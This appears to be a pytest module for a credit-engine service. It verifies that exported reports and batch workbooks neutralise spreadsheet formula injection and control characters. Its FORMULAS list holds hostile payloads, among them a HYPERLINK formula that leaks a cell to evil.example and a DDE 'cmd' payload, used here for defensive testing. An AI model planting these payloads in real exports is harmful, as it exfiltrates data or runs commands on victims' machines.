"""Hostile text in what the service writes: no formula reaches a spreadsheet and no stored value breaks a report.

The ledger is append-only, so a value that slipped in once stays for ever: these tests put funds whose codes are
formulas or hold control characters (a NUL in a bank code) straight into the ledger's tables, bypassing every
validation, then ask for every report in every format and scope. A workbook is checked twice: read back with
openpyxl (a string cell, the value kept) and in its raw sheet XML (no ``<f>`` element anywhere).
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import uuid
import zipfile
from dataclasses import asdict

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import insert

from credit_engine.assessment.decision import BatchRow
from credit_engine.assessment.spreadsheets import batch_workbook
from credit_engine.cell_text import looks_like_formula
from credit_engine.contract import write_table
from credit_engine.enterprise.fields import example_enterprise
from credit_engine.errors import RowError
from credit_engine.ledger.database import engine_for_settings
from credit_engine.ledger.domain import default_terms
from credit_engine.ledger.tables import FundRow, PolicyRow

pytestmark = pytest.mark.xdist_group("hostile-spreadsheets")

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"详情 details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)
CONTROL = ("PS\x00BC", "R\x1bC\x0bC", "SX\x08RCU\x7f")
HOME = "140121"
FORMATS = ("json", "csv", "xlsx", "html")


def _insert_fund(engine, fund_id: str, bank_code: str, county: str = HOME) -> None:
    """A fund and its policy written straight into the ledger's tables: no service, no validation."""
    now = dt.datetime(2025, 1, 2, 1, 0, tzinfo=dt.UTC)
    terms = asdict(default_terms())
    with engine.begin() as connection:
        connection.execute(
            insert(FundRow).values(
                fund_id=fund_id,
                county_code=county,
                bank_code=bank_code,
                opened_on=dt.date(2025, 1, 2),
                recorded_at=now,
                recorded_by="test",
            )
        )
        connection.execute(
            insert(PolicyRow).values(
                fund_id=fund_id,
                effective_from=dt.date(2025, 1, 2),
                recorded_at=now,
                recorded_by="test",
                idempotency_key=f"{uuid.uuid4().hex}-open",
                **terms,
            )
        )


@pytest.fixture(scope="module")
def hostile(api) -> dict[str, str]:
    """fund id → bank code of the hostile funds in the home county (also one with a formula as its fund id)."""
    funds = {f"F-FORMULA-{n}": text for n, text in enumerate(FORMULAS)}
    funds |= {f"F-CONTROL-{n}": text for n, text in enumerate(CONTROL)}
    funds["=1+2"] = "RCC"
    funds["F-\x07BELL"] = "RCC"
    engine = engine_for_settings(api.settings)
    try:
        for fund_id, bank in funds.items():
            _insert_fund(engine, fund_id, bank)
        _insert_fund(engine, "F-COUNTY-CONTROL", "RCC", county="1401\x1b9")  # in the province's and all charts
    finally:
        engine.dispose()
    return funds


def _formula_elements(content: bytes) -> list[str]:
    """The names of the sheet XML files of a workbook that hold a formula (``<f>`` or ``<f …>``)."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", book.read(name))
        ]


def _text_cells(content: bytes) -> dict[str, object]:
    """Every text cell of every sheet: value → cell."""
    book = load_workbook(io.BytesIO(content))
    return {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}


def _report(api, kind: str, fmt: str, scope: str):
    token = {"county": api.keys.fund_admin, "province": api.keys.province_admin, "all": api.keys.auditor}[scope]
    query = {"county": f"&county={HOME}", "province": "&province=14", "all": ""}[scope]
    dates = "from=2025-01-01&to=2025-03-31" if kind == "subsidy" else "as_of=2025-03-31"
    return api.get(token, f"/v1/reports/{kind}?{dates}&format={fmt}{query}")


@pytest.mark.parametrize("kind", ["leverage", "portfolio", "subsidy"])
def test_no_formula_reaches_a_report_workbook(api, hostile, kind):
    response = _report(api, kind, "xlsx", "county")
    assert response.status_code == 200, response.text
    assert _formula_elements(response.content) == []
    cells = _text_cells(response.content)
    for text in (*FORMULAS, "=1+2"):
        cell = cells[text]  # the value is kept exactly
        assert (cell.data_type, cell.quotePrefix) == ("s", True), text


@pytest.mark.parametrize("scope", ["county", "province", "all"])
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("kind", ["leverage", "portfolio", "subsidy"])
def test_every_report_renders_a_stored_control_character(api, hostile, kind, fmt, scope):
    response = _report(api, kind, fmt, scope)
    assert response.status_code == 200, response.text
    if fmt == "json":
        banks = {row["fund_id"]: row["bank"] for row in json.loads(response.content)}
        assert {fund: banks[fund] for fund in hostile} == hostile  # JSON keeps the stored value, escaped
        return
    if fmt == "xlsx":
        values = set(_text_cells(response.content))
        assert _formula_elements(response.content) == []
    else:
        text = response.content.decode("utf-8-sig")
        values = {text}
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", text)  # no character XML (or a CSV reader) chokes on
    shown = {"PS\ufffdBC", "R\ufffdC\ufffdC", "SX\ufffdRCU\x7f", "F-\ufffdBELL"}
    assert all(any(expected in value for value in values if isinstance(value, str)) for expected in shown)


def test_the_csv_report_makes_formulas_inert(api, hostile):
    response = _report(api, "leverage", "csv", "county")
    rows = pd.read_csv(io.BytesIO(response.content), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    banks = set(rows.iloc[:, 2])
    assert {"'" + text for text in FORMULAS} <= banks and not any(bank.startswith("=") for bank in banks)


def test_the_batch_results_workbook_keeps_formula_like_ids_as_text(api):
    applications = [api.application(application_id=f"{text}#{n}") for n, text in enumerate(FORMULAS)]
    response = api.post(api.keys.officer, "/v1/fumin/assessments:batch?format=xlsx", applications)
    assert response.status_code == 200, response.text
    assert _formula_elements(response.content) == []
    cells = _text_cells(response.content).values()
    assert all((c.data_type, c.quotePrefix) == ("s", True) for c in cells if looks_like_formula(c.value))


def test_the_enterprise_batch_results_workbook_keeps_formula_like_ids_as_text(api):
    applications = [
        {
            k: v.isoformat() if isinstance(v, dt.date) else v
            for k, v in example_enterprise(application_id=f"{t}#{n}").items()
        }
        for n, t in enumerate(FORMULAS)
    ]
    response = api.post(api.keys.officer, "/v1/qiangnong/assessments:batch?format=xlsx", applications)
    assert response.status_code == 200, response.text
    assert _formula_elements(response.content) == []
    cells = _text_cells(response.content).values()
    assert any(looks_like_formula(c.value) for c in cells)
    assert all((c.data_type, c.quotePrefix) == ("s", True) for c in cells if looks_like_formula(c.value))


def test_a_batch_workbook_of_rows_that_bypassed_validation_is_inert_and_readable():
    rows = [
        BatchRow(n, text, errors=(RowError(n, "head_age", "type_int", text, text),)) for n, text in enumerate(FORMULAS)
    ]
    rows.append(BatchRow(len(rows), "A-\x00-NUL", errors=(RowError(None, "x", "y", "m\x1b"),)))
    content = batch_workbook(rows)
    assert _formula_elements(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    ids = [cell for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)]
    assert [cell.value for cell in ids] == [*FORMULAS, "A-\ufffd-NUL"]
    assert all((cell.data_type, cell.quotePrefix) == ("s", True) for cell in ids[: len(FORMULAS)])


def test_a_ratings_workbook_keeps_formula_like_text_and_headers_as_text(tmp_path):
    frame = pd.DataFrame({"application_id": [*FORMULAS, "A\x00B"], '=HYPERLINK("x")': ["ok"] * 7, "pd": [0.1] * 7})
    path = write_table(frame, tmp_path / "ratings.xlsx", chinese_headers=True)
    content = path.read_bytes()
    assert _formula_elements(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    column = [cell for (cell,) in sheet.iter_rows(min_row=2, max_col=1)]
    assert [cell.value for cell in column] == [*FORMULAS, "A\ufffdB"]
    assert all((cell.data_type, cell.quotePrefix) == ("s", True) for cell in column[:6])
    assert (sheet["B1"].value, sheet["B1"].data_type) == ('=HYPERLINK("x")', "s")
